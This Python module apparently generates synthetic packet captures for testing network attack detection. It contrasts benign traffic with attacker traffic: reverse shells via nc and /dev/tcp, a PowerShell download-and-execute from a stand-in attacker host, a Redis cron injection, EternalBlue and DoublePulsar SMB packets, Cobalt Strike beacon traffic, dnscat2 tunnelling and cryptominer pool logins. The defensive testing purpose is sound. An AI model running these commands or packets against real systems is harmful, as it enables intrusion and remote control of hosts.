"""Compromised hosts and attacks below HTTP: shells, SMB, command and control, miners."""

from __future__ import annotations

import base64
import random
import struct

from captures.http import Exchange, browse, get, post, request, response, visit
from captures.wire import ATTACKER, BENIGN, SERVER, Capture, TcpConversation, datagram

OLD_EXPLORER = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0)"
WORKSTATION = "198.51.100.77"


def shells() -> Capture:
    """Shells that call out (the server is the client of the connection), and what starts them."""
    capture = Capture()
    browse(capture, [post("/tickets", b"text=It+printed+uid=0(root)+gid=0(root),+is+that+bad?", response())])

    bash = TcpConversation(capture, SERVER, ATTACKER, 49200, 4444).open()
    bash.server(b"id\n")
    bash.client(b"uid=0(root) gid=0(root) groups=0(root)\n# ")
    bash.server(b"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'\n")
    bash.server(f"nc {ATTACKER} 4445 -e /bin/sh\n".encode())
    bash.close()
    capture.wait(0.1)

    windows = TcpConversation(capture, SERVER, ATTACKER, 49201, 4444).open()
    banner = b"Microsoft Windows [Version 10.0.19045.2965]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\n"
    windows.client(banner + b"C:\\Windows\\system32>")
    windows.server(f"powershell IEX (New-Object Net.WebClient).DownloadString('http://{ATTACKER}/a.ps1')\r\n".encode())
    windows.close()
    capture.wait(0.1)

    exposed = TcpConversation(capture, ATTACKER, SERVER, 43000, 6379).open()
    line = f"* * * * * bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1\n".encode()
    exposed.client(b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$%d\r\n%b\r\n" % (len(line), line))
    exposed.server(b"+OK\r\n")
    exposed.close()

    login = TcpConversation(capture, BENIGN, SERVER, 50100, 22).open()
    login.server(b"SSH-2.0-OpenSSH_9.6\r\n")
    login.client(b"SSH-2.0-OpenSSH_9.7\r\n")
    login.client(random.Random(22).randbytes(900))
    login.server(random.Random(23).randbytes(1200))
    login.close()
    return capture


def smb() -> Capture:
    """EternalBlue's announcement, DoublePulsar's question and answer, a beacon's pipe; and a file server's client."""
    capture = Capture()
    office = TcpConversation(capture, BENIGN, SERVER, 50200, 445).open()
    office.client(_netbios(_smb2(0) + struct.pack("<HHHHI", 36, 1, 1, 0, 0) + bytes(24) + b"\x02\x02"))
    office.server(_netbios(_smb2(0, response=True) + struct.pack("<HHH", 65, 1, 0x0202) + bytes(58)))
    office.client(_netbios(_smb2_create("spoolss")))
    office.server(_netbios(_smb2(5, response=True) + struct.pack("<HBB", 89, 0, 0) + bytes(85)))
    office.close()
    capture.wait(0.1)

    exploit = TcpConversation(capture, ATTACKER, SERVER, 43100, 445).open()
    exploit.client(_netbios(_smb1(0x72, mid=0x40) + b"\x00\x0c\x00\x02NT LM 0.12\x00"))
    exploit.server(_netbios(_smb1(0x72, mid=0x40, flags=0x98) + b"\x11\x00\x00" + bytes(34)))
    words = struct.pack("<BHIIIIIIIIBH", 1, 0, 0x1E, 0x103D0, 0x1E, 0, 0x1E, 0x4B, 0x3D0, 0x68, 1, 0)
    exploit.client(_netbios(_smb1(0xA0, mid=0x40) + b"\x14" + words + b"\x00\x00" + bytes(0x3F0)))
    exploit.server(_netbios(_smb1(0xA0, mid=0x40, flags=0x98) + b"\x00\x00\x00"))
    exploit.close()
    capture.wait(0.1)

    implant = TcpConversation(capture, ATTACKER, SERVER, 43101, 445).open()
    words = struct.pack("<HHHHBBHIHHHHHBBH", 12, 0, 1, 0, 0, 0, 0, 0x0CA4D9A6, 0, 12, 66, 0, 78, 1, 0, 0x0E)
    implant.client(_netbios(_smb1(0x32, mid=0x41) + b"\x0f" + words + b"\x0d\x00" + bytes(13)))
    implant.server(_netbios(_smb1(0x32, 0xC0000002, 0x98, 0x51) + b"\x00\x00\x00"))
    implant.close()
    capture.wait(0.1)

    beacon = TcpConversation(capture, WORKSTATION, SERVER, 43102, 445).open()
    beacon.client(_netbios(_smb2_create("MSSE-1234-server")))
    beacon.server(_netbios(_smb2(5, response=True) + struct.pack("<HBB", 89, 0, 0) + bytes(85)))
    beacon.close()
    return capture


def c2() -> Capture:
    """A workstation with a beacon of default settings: stager, check-in, output, TLS, and dnscat2."""
    capture = Capture()
    explorer = {"Accept-Language": "en-US"}
    visit(capture, [get("/news", response(), agent=OLD_EXPLORER, headers=explorer)], BENIGN, 50300)
    visit(capture, [get("/pixel.gif", response(b"GIF89a"), headers={"Cookie": "session=5f2b"})], BENIGN, 50301)

    visit(
        capture,
        [get("/aB3x", response(random.Random(1).randbytes(4000)), agent=OLD_EXPLORER)],
        WORKSTATION,
        50310,
        80,
        ATTACKER,
    )
    metadata = {"Cookie": base64.b64encode(random.Random(2).randbytes(128)).decode()}
    plain = response(b"", headers={"Content-Type": "application/octet-stream"})
    tasks = [get("/pixel.gif", plain, headers=metadata, host=ATTACKER) for _ in range(3)]
    visit(capture, tasks, WORKSTATION, 50311, 80, ATTACKER)
    octets = {"Content-Type": "application/octet-stream"}
    output = b"\x00\x00\x00\x40" + random.Random(3).randbytes(64)
    answer = Exchange(request("/submit.php?id=242569267", "POST", octets, output, host=ATTACKER), response(b""))
    visit(capture, [answer], WORKSTATION, 50312, 80, ATTACKER)

    tls = TcpConversation(capture, WORKSTATION, ATTACKER, 50313, 443).open()
    hello = b"\x03\x03" + random.Random(4).randbytes(32) + b"\x00" + struct.pack(">HH", 2, 0xC02F) + b"\x01\x00"
    tls.client(_record(b"\x01" + len(hello).to_bytes(3, "big") + hello))
    chosen = b"\x03\x03" + random.Random(5).randbytes(32) + b"\x00\xc0\x2f\x00"
    subject = [b"Earth", b"Cyberspace", b"Somewhere", b"cobaltstrike", b"AdvancedPenTesting", b"Major Cobalt Strike"]
    certificate = _certificate(subject)
    chain = len(certificate).to_bytes(3, "big") + certificate
    listed = len(chain).to_bytes(3, "big") + chain
    tls.server(
        _record(b"\x02" + len(chosen).to_bytes(3, "big") + chosen)
        + _record(b"\x0b" + len(listed).to_bytes(3, "big") + listed)
        + _record(b"\x0e\x00\x00\x00")
    )
    tls.close()

    question = bytes.fromhex("1234 0100 0001 0000 0000 0000")
    shop = question + b"\x04shop\x07example\x03org\x00" + b"\x00\x01\x00\x01"
    datagram(capture, BENIGN, "203.0.113.53", 50320, 53, shop)
    for number in range(3):
        label = f"{number:04x}0123456789abcdef".encode()
        tunnel = question + b"\x06dnscat" + bytes([len(label)]) + label + b"\x00\x00\x10\x00\x01"
        datagram(capture, WORKSTATION, ATTACKER, 50330, 53, tunnel)
    return capture


def miners() -> Capture:
    """Three miners log in to their pools; a web application logs in with JSON of its own."""
    capture = Capture()
    login = b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"ann","pass":"x","agent":"TeaShop/1.0"}}'
    browse(capture, [post("/rpc", login, response(b"{}"), headers={"Content-Type": "application/json"})])
    talks = [
        [
            b'{"id": 1, "method": "mining.subscribe", "params": ["cgminer/4.10"]}\n',
            b'{"params": ["wallet.worker1", "x"], "id": 2, "method": "mining.authorize"}\n',
        ],
        [
            b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x",'
            b'"agent":"XMRig/6.21.0 (Linux x86_64)","algo":["rx/0"]}}\n'
        ],
        [b'{"id":1,"worker":"rig1","jsonrpc":"2.0","params":["0x00","x"],"method":"eth_submitLogin"}\n'],
    ]
    for number, lines in enumerate(talks):
        pool = TcpConversation(capture, WORKSTATION, ATTACKER, 50400 + number, 3333).open()
        for line in lines:
            pool.client(line)
            pool.server(b'{"id":1,"jsonrpc":"2.0","error":null,"result":true}\n')
        pool.close()
        capture.wait(0.1)
    return capture


def cleartext() -> Capture:
    """Log-ins that anybody on the way can read: what the opt-in rules are about."""
    capture = Capture()
    browse(capture, [get("/", response(), headers={"Authorization": "Bearer YW5uOnRlYQ"})])
    visit(capture, [get("/admin", response(), headers={"Authorization": "Basic YW5uOnRlYQ=="})], BENIGN, 50500)
    telnet = TcpConversation(capture, BENIGN, SERVER, 50501, 23).open()
    telnet.server(bytes.fromhex("fffd18fffd20fffd23fffd27"))
    telnet.client(bytes.fromhex("fffb18fffc20fffc23fffb27"))
    telnet.server(b"login: ")
    telnet.close()
    ftp = TcpConversation(capture, BENIGN, SERVER, 50502, 21).open()
    ftp.server(b"220 ready\r\n")
    ftp.client(b"USER ann\r\n")
    ftp.server(b"331 password\r\n")
    ftp.client(b"PASS tea-and-cups\r\n")
    ftp.server(b"230 welcome\r\n")
    ftp.close()
    return capture


def _netbios(message: bytes) -> bytes:
    return struct.pack(">I", len(message)) + message


def _smb1(command: int, status: int = 0, flags: int = 0x18, mid: int = 0x40) -> bytes:
    """Return an SMB 1 header ([MS-CIFS] section 2.2.3.1)."""
    head = struct.pack("<4sBIBHH8sH", b"\xffSMB", command, status, flags, 0xC007, 0, bytes(8), 0)
    return head + struct.pack("<HHHH", 0x0800, 0xFEFF, 0x0800, mid)


def _smb2(command: int, response: bool = False) -> bytes:
    """Return an SMB 2 header ([MS-SMB2] section 2.2.1.2)."""
    return struct.pack(
        "<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1, 0, command, 1, int(response), 0, 4, 0xFEFF, 1, 0, bytes(16)
    )


def _smb2_create(name: str) -> bytes:
    """Return an SMB 2 CREATE of a pipe ([MS-SMB2] section 2.2.13)."""
    text = name.encode("utf-16-le")
    fixed = struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x12019F, 0, 7, 1, 0x40, 120, len(text), 0, 0)
    return _smb2(5) + fixed + text


def _record(handshake: bytes) -> bytes:
    """Wrap a TLS 1.2 handshake message in a record (RFC 5246 section 6.2.1)."""
    return b"\x16\x03\x03" + struct.pack(">H", len(handshake)) + handshake


def _der(tag: int, content: bytes) -> bytes:
    size = len(content)
    length = bytes([size]) if size < 128 else b"\x82" + size.to_bytes(2, "big")
    return bytes([tag]) + length + content


def _certificate(values: list[bytes]) -> bytes:
    """Return a certificate (RFC 5280 section 4.1) of this subject and issuer (C, ST, L, O, OU, CN); filler as key."""
    oids = (b"\x55\x04\x06", b"\x55\x04\x08", b"\x55\x04\x07", b"\x55\x04\x0a", b"\x55\x04\x0b", b"\x55\x04\x03")
    name = _der(
        0x30,
        b"".join(
            _der(0x31, _der(0x30, _der(6, oid) + _der(0x13, value))) for oid, value in zip(oids, values, strict=True)
        ),
    )
    algorithm = _der(0x30, _der(6, bytes.fromhex("2a864886f70d01010b")) + b"\x05\x00")
    validity = _der(0x30, _der(0x17, b"150520182640Z") + _der(0x17, b"250517182640Z"))
    key = _der(
        0x30,
        _der(0x30, _der(6, bytes.fromhex("2a864886f70d010101")) + b"\x05\x00")
        + _der(3, b"\0" + _der(0x30, b"\x02\x01\x03\x02\x01\x03")),
    )
    body = _der(
        0x30, _der(0xA0, b"\x02\x01\x02") + _der(2, b"\x08\xbb\x00\xee") + algorithm + name + validity + name + key
    )
    return _der(0x30, body + algorithm + _der(3, b"\0" + random.Random(6).randbytes(128)))
